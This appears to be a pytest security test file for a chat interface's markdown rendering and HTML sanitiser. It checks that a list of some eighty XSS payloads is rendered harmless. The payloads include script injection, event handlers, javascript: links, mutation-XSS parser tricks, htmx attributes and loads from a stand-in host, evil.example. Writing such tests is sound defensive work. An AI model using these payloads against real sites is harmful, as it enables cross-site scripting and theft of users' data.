"""Nothing that a message says can run, load, submit, or reach the page around it."""

import re
from html import unescape

import pytest

from chatinterface.content.incremental import IncrementalMarkdown
from chatinterface.content.markdown import render
from chatinterface.content.names import names
from chatinterface.content.sanitise import clean, is_own
from tests.content.reader import Reader

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>\n\nalert(1)\n\n</script>",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror="alert(1)">',
    '<b onclick="alert(1)">a</b>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>a</button></form>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">a</p>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>a</math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?x <img src=x onerror=alert(1)> ?>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#1;javascript:alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='data:text/html,x'>a</a>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](https://evil.example/x.png)",
    "![a](//evil.example/x.png)",
    "<img src=https://evil.example/x.png>",
    '<img src="/\\evil.example/x.png">',
    '<img src="\t//evil.example/x.png">',
    '<img src="/&#9;/evil.example/x.png">',
    "<img srcset='https://evil.example/x.png 2x'>",
    "<video src=https://evil.example/x></video><audio src=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/x>a",
    "<a href=/x ping=https://evil.example>a</a>",
    "<b hx-get=/logout hx-trigger=load>a</b>",
    "<b data-hx-post=/x data-hx-trigger=load>a</b>",
    '<div hx-on:click="alert(1)" hx-swap-oob=true>a</div>',
    "<b data-action=send data-chat-log>a</b>",
    "<b id=chat name=cookie>a</b>",
    "<b class='button chat-composer'>a</b>",
    "<b tabindex=1 accesskey=s contenteditable autofocus>a</b>",
    "<input type=image src=https://evil.example/x>",
    "<input type=password name=password autofocus>",
    "<pre data-language='\"><script>alert(1)</script>'>a</pre>",
    '```"><script>alert(1)</script>\na\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "$\\text{</mtext><script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{a}$",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    '<pre><code class="language-html">&lt;script&gt;</code></pre><script>',
    '<span class="math math-inline">&lt;/span&gt;&lt;script&gt;</span>',
    "| <script>alert(1)</script> | <b onclick=x> |\n|-|-|\n| <img src=x onerror=y> | b |",
    "# <a name=x><img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
]

TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?: [a-z-]+=\"[^\"<>]*\")*)>")
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
ATTRIBUTE = re.compile(r" ([a-z-]+)=\"([^\"]*)\"")
FORBIDDEN_TAGS = names(
    "script style iframe object embed form button textarea select svg base meta link body html template title noscript "
    "video audio source picture annotation-xml semantics xmp plaintext frame frameset applet marquee"
)
FORBIDDEN_ATTRIBUTES = names(
    "id name style srcset srcdoc action formaction ping background tabindex accesskey contenteditable autofocus"
)
CLASSES = re.compile(r"k|s|c|m|nf|nc|nb|nt|na|nv|gd|gi|markdown-alert-[a-z]+|footnote-[a-z-]+")


def assert_harmless(html: str) -> None:
    assert "<" not in TAG.sub("", html)
    for _, tag, attributes in TAG.findall(html):
        assert tag not in FORBIDDEN_TAGS
        for name, value in ATTRIBUTE.findall(attributes):
            assert name not in FORBIDDEN_ATTRIBUTES and not name.startswith(("on", "hx"))
            assert_harmless_value(tag, name, unescape(value))


def assert_harmless_value(tag: str, name: str, value: str) -> None:
    if name.startswith("data-"):
        assert (tag, name) == ("pre", "data-language")
    elif name == "class":
        assert all(CLASSES.fullmatch(each) for each in value.split())
    elif name == "href":
        # Browsers ignore these characters there.
        scheme = SCHEME.match(re.sub(r"[\0-\x20]", "", value))
        assert tag == "a" and (not scheme or scheme[1].lower() in {"http", "https", "mailto"})
    elif name == "src":
        assert tag == "img" and is_own(value)
    elif name == "type":
        assert (tag, value) == ("input", "checkbox")


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_harmless(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("size", [1, 7])
def test_split_attack_harmless(text: str, size: int) -> None:
    markdown, reader = IncrementalMarkdown(), Reader()
    for start in range(0, len(text), size):
        markdown.append(text[start : start + size])
        if patch := markdown.patch():
            reader.apply(patch)
        assert_harmless(reader.html)


@pytest.mark.parametrize("text", ATTACKS)
def test_sanitiser_alone_harmless(text: str) -> None:
    """It does not rely on what the steps before it have removed."""
    assert_harmless(clean(text))


def test_clean_stable() -> None:
    for text in ATTACKS:
        html = render(text)
        assert clean(html) == html


@pytest.mark.parametrize("url", ["/a.png", "a.png", "./a/b.png?c=d&e", "../a~b.png", "/media/a%20b.png"])
def test_own_url(url: str) -> None:
    assert is_own(url)


@pytest.mark.parametrize(
    "url", ["", "//a", "/\\a", "\\\\a", "http:a", "data:a", " //a", "/\t/a", "a:b", "https://a", "/\n/a", "é"]
)
def test_foreign_url(url: str) -> None:
    assert not is_own(url)


def test_mail_link_kept() -> None:
    assert 'href="mailto:a@example.com"' in render("<a@example.com>")
